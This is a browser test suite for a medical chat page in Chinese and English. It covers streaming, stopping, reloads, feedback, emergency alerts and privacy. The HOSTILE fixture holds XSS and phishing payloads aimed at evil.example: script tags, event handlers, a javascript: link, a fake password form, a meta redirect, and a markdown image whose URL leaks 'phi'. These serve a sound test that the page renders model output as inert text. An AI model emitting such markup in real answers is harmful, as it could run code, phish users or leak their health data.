"""The chat page in a real browser: streaming, stop, reload, red flags, and what a model may not do to it."""

import json
import threading
from typing import Any

import pytest
from playwright.sync_api import expect

pytestmark = [pytest.mark.browser]
TALKER = "talker"
LANGUAGES = ("zh", "en")
HOSTILE = """看这里 ![x](http://evil.example/?q=phi) [点我](javascript:alert(1)) [去](http://evil.example/a)
<img src="http://evil.example/i.png" onerror="alert(1)"> <script>window.hacked = 1</script>
<form action="http://evil.example"><input type="password" name="p"><button>登录</button></form>
<div style="position:fixed;inset:0;background:red">遮住</div> <iframe src="http://evil.example"></iframe>
<svg onload="window.hacked=1"><a href="http://evil.example">x</a></svg> <video src="http://evil.example/v"></video>
http://evil.example/auto www.evil.example <http://evil.example/b> <style>body{display:none}</style>
<meta http-equiv="refresh" content="0;url=http://evil.example"> <link rel="stylesheet" href="http://evil.example/c">

[r]: http://evil.example/r
![r] [r] `<b>x</b>` 血糖 <6.1 且 >3.9 **要紧**"""
LIVE = "a, img, form, input, button, iframe, script, style, svg, video, audio, object, link, meta, [style]"


def messages(app: Any, question: str) -> list[dict[str, Any]]:
    """All messages of the conversation in which this was asked, also those laid aside."""
    return app.rows(
        "SELECT m.* FROM chat_messages m WHERE m.chat_id ="
        " (SELECT chat_id FROM chat_messages WHERE text = ? ORDER BY id DESC LIMIT 1) ORDER BY m.id",
        question,
    )


def finished(tab: Any) -> None:
    """Waits until no answer is being written, once something of it was seen or it is the first."""
    expect(tab.page.locator("#regenerate")).to_be_enabled()
    tab.quiet()
    expect(tab.page.locator("#regenerate")).to_be_enabled()


@pytest.mark.parametrize("language", LANGUAGES)
def test_an_answer_is_seen_while_it_is_written(app: Any, open_tab: Any, language: str) -> None:
    question, gate = f"我头疼三天了 {language}", threading.Event()
    app.models.plan(
        TALKER, question, ["先考虑**紧张型头痛**。", gate, "\n\n1. 怕光吗？\n2. 血压多少？"]
    )
    tab = open_tab(language).open(f"/{language}/chat/")
    expect(tab.page.locator("html")).to_have_attribute(
        "lang", "zh-CN" if language == "zh" else "en"
    )
    tab.ask(question)
    expect(tab.page.locator("#talk strong")).to_have_text("紧张型头痛")
    expect(tab.page.locator("#question textarea")).to_have_value("")
    expect(tab.page.locator("#stop")).to_be_enabled()
    expect(tab.page.locator("#regenerate")).to_be_disabled()
    assert tab.page.locator("#talk ol").count() == 0
    gate.set()
    expect(tab.page.locator("#talk ol li")).to_have_text(["怕光吗？", "血压多少？"])
    finished(tab)
    expect(tab.page.locator("#stop")).to_be_disabled()
    asked, answered = messages(app, question)
    assert (asked["role"], answered["role"], answered["finish"]) == ("user", "assistant", "stop")
    assert answered["text"].startswith("先考虑**紧张型头痛**。")


def test_the_model_is_told_the_turns_before(app: Any, open_tab: Any) -> None:
    tab = open_tab().open("/zh/chat/")
    for number, question in enumerate(("我胃疼两天了", "饭后更疼")):
        tab.ask(question)
        expect(tab.page.locator("#talk .turn.doctor strong")).to_have_count(number + 1)
        finished(tab)
    told = [asked for _, asked in app.models.asked if asked[-1]["content"] == "饭后更疼"][-1]
    assert [turn["role"] for turn in told if turn["role"] != "system"] == [
        "user",
        "assistant",
        "user",
    ]
    expect(tab.page.locator("#talk .turn.you .said")).to_have_text(["我胃疼两天了", "饭后更疼"])


def test_a_stopped_answer_is_kept_as_incomplete_and_regenerating_keeps_both(
    app: Any, open_tab: Any
) -> None:
    question, gate = "膝盖疼怎么办", threading.Event()
    app.models.plan(TALKER, question, ["先休息", gate], ["再答：少爬楼梯。"])
    tab = open_tab().open("/zh/chat/")
    tab.ask(question)
    expect(tab.page.locator("#talk")).to_contain_text("先休息")
    tab.page.click("#stop")
    expect(tab.page.locator("#talk .unfinished")).to_have_text("已停止，回答不完整。")
    tab.quiet()
    assert messages(app, question)[-1]["finish"] == "cancelled"
    expect(tab.page.locator("#thumb-up")).to_be_disabled()
    tab.page.click("#regenerate")
    expect(tab.page.locator("#talk .turn.doctor")).to_contain_text("少爬楼梯")
    expect(tab.page.locator("#talk .turn.doctor")).to_have_count(1)
    finished(tab)
    kept = messages(app, question)
    assert [m["text"] for m in kept] == [question, "先休息", "再答：少爬楼梯。"]
    assert [m["superseded_at"] is None for m in kept] == [True, False, True]
    gate.set()


def test_a_new_conversation_begins_empty_and_loses_nothing(app: Any, open_tab: Any) -> None:
    tab = open_tab().open("/zh/chat/")
    tab.ask("旧对话里的问题")
    finished(tab)
    tab.page.click("#new-chat")
    expect(tab.page.locator("#talk .welcome")).to_be_visible()
    expect(tab.page.locator("#examples")).to_be_visible()
    tab.page.reload()
    tab.wait()
    expect(tab.page.locator("#talk .welcome")).to_be_visible()
    assert len(messages(app, "旧对话里的问题")) == 2


@pytest.mark.parametrize("language", LANGUAGES)
def test_an_example_is_asked_by_one_click(open_tab: Any, language: str) -> None:
    tab = open_tab(language).open(f"/{language}/chat/")
    example = tab.page.locator("#examples button").first
    question = example.inner_text()
    example.click()
    expect(tab.page.locator("#talk .turn.you .said")).to_have_text(question)
    expect(tab.page.locator("#talk .turn.doctor strong")).to_be_visible()
    expect(tab.page.locator("#examples")).to_be_hidden()


def test_a_thumb_is_stored_shown_after_a_reload_and_can_be_taken_back(
    app: Any, open_tab: Any
) -> None:
    tab, question = open_tab().open("/zh/chat/"), "给这个回答评价"
    tab.ask(question)
    finished(tab)

    def press(thumb: str, stands: int) -> None:
        tab.quiet()
        tab.page.click(f"#{thumb}")
        chosen = tab.page.locator("#thumb-up.primary, #thumb-down.primary")
        expect(chosen).to_have_count(abs(stands))
        if stands:
            expect(chosen).to_have_id("thumb-up" if stands > 0 else "thumb-down")
        assert messages(app, question)[-1]["thumb"] == stands

    press("thumb-up", 1)
    tab.page.reload()
    expect(tab.page.locator("#thumb-up.primary")).to_be_visible()
    press("thumb-down", -1)
    press("thumb-down", 0)


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_reload_in_mid_answer_finds_it_again_and_it_completes(
    app: Any, open_tab: Any, language: str
) -> None:
    question, gate = f"咳嗽一周了 {language}", threading.Event()
    app.models.plan(TALKER, question, ["有痰吗？", gate, "先查**胸片**。"])
    tab = open_tab(language).open(f"/{language}/chat/")
    tab.ask(question)
    expect(tab.page.locator("#talk")).to_contain_text("有痰吗？")
    tab.page.reload()
    expect(tab.page.locator("#talk")).to_contain_text("有痰吗？")
    expect(tab.page.locator("#stop")).to_be_enabled()
    gate.set()
    expect(tab.page.locator("#talk strong")).to_have_text("胸片")
    finished(tab)
    tab.page.reload()
    expect(tab.page.locator("#talk strong")).to_have_text("胸片")
    assert [m["text"] for m in messages(app, question)] == [question, "有痰吗？先查**胸片**。"]


def test_an_answer_completes_though_its_reader_has_gone(app: Any, open_tab: Any) -> None:
    question, gate = "关了页面会怎样", threading.Event()
    app.models.plan(TALKER, question, ["请", gate, "稍等，写完了。"])
    tab = open_tab().open("/zh/chat/")
    tab.ask(question)
    expect(tab.page.locator("#talk .turn.doctor")).to_contain_text("请")
    tab.page.goto("about:blank")
    gate.set()
    tab.open("/zh/chat/")
    expect(tab.page.locator("#talk .turn.doctor")).to_contain_text("写完了。")


@pytest.mark.parametrize(
    ("language", "question"),
    [("zh", "我胸口压榨样疼，出大汗"), ("en", "I have crushing chest pain and cold sweat")],
)
def test_a_red_flag_is_shown_while_the_model_still_says_nothing(
    app: Any, open_tab: Any, language: str, question: str
) -> None:
    gate = threading.Event()
    app.models.plan(TALKER, question, [gate, "请马上拨打120。"])
    tab = open_tab(language).open(f"/{language}/chat/")
    tab.ask(question)
    flag = tab.page.locator("#talk [role=alert].red-flag")
    expect(flag).to_contain_text("120")
    expect(tab.page.locator("#talk .dots")).to_be_visible()
    gate.set()
    finished(tab)
    expect(flag).to_be_visible()
    boxes = "['.red-flag', '.turn.doctor'].map(one => document.querySelector(`#talk ${one}`).getBoundingClientRect().y)"
    flag_y, answer_y = tab.page.evaluate(boxes)  # at once: the page may scroll
    assert flag_y < answer_y
    assert json.loads(messages(app, question)[0]["notices"])


def test_a_broken_off_answer_says_so_and_can_be_asked_again(app: Any, open_tab: Any) -> None:
    question = "断开的回答"
    app.models.plan(TALKER, question, ["说到一半", app.models.cut], ["这次说完了。"])
    tab = open_tab().open("/zh/chat/")
    tab.ask(question)
    expect(tab.page.locator("#talk .unfinished")).to_contain_text("中途断开")
    expect(tab.page.locator("#thumb-up")).to_be_disabled()
    tab.quiet()
    tab.page.click("#regenerate")
    expect(tab.page.locator("#talk .turn.doctor")).to_contain_text("这次说完了。")
    expect(tab.page.locator("#talk .unfinished")).to_have_count(0)


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_message_that_cannot_be_sent_stays_in_the_box(
    app: Any, open_tab: Any, language: str
) -> None:
    tab = open_tab(language).open(f"/{language}/chat/")
    tab.expected.append("413")
    words = {
        "zh": ("请先写下内容", "内容太长，最多 2000 个字", "太大"),
        "en": ("Please write something first", "too long: 2000 characters at most", "too large"),
    }[language]
    for text, sentence in zip(("  ", "疼" * 2001, "疼" * 100_000), words, strict=True):
        tab.ask(text)
        tab.told(sentence)
        expect(tab.page.locator("#question textarea")).to_have_value(text)
        expect(tab.page.locator("#talk .welcome")).to_be_visible()
    stored = "SELECT id FROM chat_messages WHERE length(text) > 2000 OR trim(text) = ''"
    assert app.rows(stored) == []
    tab.ask("短一点的问题")
    expect(tab.page.locator("#talk .turn.doctor strong")).to_be_visible()


def test_enter_sends_shift_enter_breaks_the_line_and_an_input_method_is_left_alone(
    open_tab: Any,
) -> None:
    tab = open_tab().open("/zh/chat/")
    box = tab.page.locator("#question textarea")
    box.focus()
    keys = tab.context.new_cdp_session(tab.page)
    keys.send(
        "Input.imeSetComposition", {"text": "touteng", "selectionStart": 7, "selectionEnd": 7}
    )
    # 229 is what a browser reports for a key that the input method takes.
    enter = {"key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 229}
    keys.send("Input.dispatchKeyEvent", {"type": "rawKeyDown", **enter})
    keys.send("Input.insertText", {"text": "头疼"})
    keys.send("Input.dispatchKeyEvent", {"type": "keyUp", **enter})
    expect(box).to_have_value("头疼")
    tab.page.keyboard.press("Shift+Enter")
    tab.page.keyboard.type("1234szn")
    expect(box).to_have_value("头疼\n1234szn")
    expect(tab.page.locator("#talk .welcome")).to_be_visible()
    tab.page.keyboard.press("Enter")
    said = tab.page.locator("#talk .turn.you .said")
    expect(said).to_have_text("头疼1234szn")
    expect(said.locator("br")).to_have_count(1)


def test_what_a_model_writes_is_text_and_nothing_else(app: Any, open_tab: Any) -> None:
    question = "<img src=x onerror=alert(1)> **我** ![a](b) <b>疼</b>"
    app.models.plan(TALKER, question, [HOSTILE])
    tab = open_tab().open("/zh/chat/")
    tab.ask(question)
    finished(tab)
    answer = tab.page.locator("#talk .turn.doctor .said")
    expect(answer).to_contain_text("血糖 <6.1 且 >3.9")
    expect(answer).to_contain_text("<form action")
    expect(answer.locator("strong")).to_have_text("要紧")
    expect(tab.page.locator("#talk .turn.you .said")).to_have_text(question)
    tab.page.reload()
    tab.wait()
    expect(answer).to_contain_text("http://evil.example/auto")
    assert tab.page.locator("#talk .said").locator(LIVE).count() == 0
    assert tab.page.evaluate("window.hacked") is None
    assert not [url for url in tab.asked if "evil" in url]


def test_the_browser_keeps_no_word_of_a_conversation(open_tab: Any) -> None:
    tab = open_tab().open("/zh/chat/")
    tab.ask("这句话不该留在浏览器里")
    finished(tab)
    tab.page.click("[data-theme]")
    kept = tab.page.evaluate(
        "JSON.stringify([{...localStorage}, {...sessionStorage}, document.cookie, name])"
    )
    assert json.loads(kept) == [{"theme": "dark"}, {}, "", ""]
    assert tab.page.evaluate("indexedDB.databases().then(found => found.length)") == 0
    assert tab.page.evaluate("caches.keys().then(found => found.length)") == 0


def test_two_visitors_do_not_see_each_other(open_tab: Any) -> None:
    first = open_tab().open("/zh/chat/")
    first.ask("只给第一位看")
    finished(first)
    second = open_tab().open("/zh/chat/")
    expect(second.page.locator("#talk .welcome")).to_be_visible()
    assert "只给第一位看" not in second.page.content()
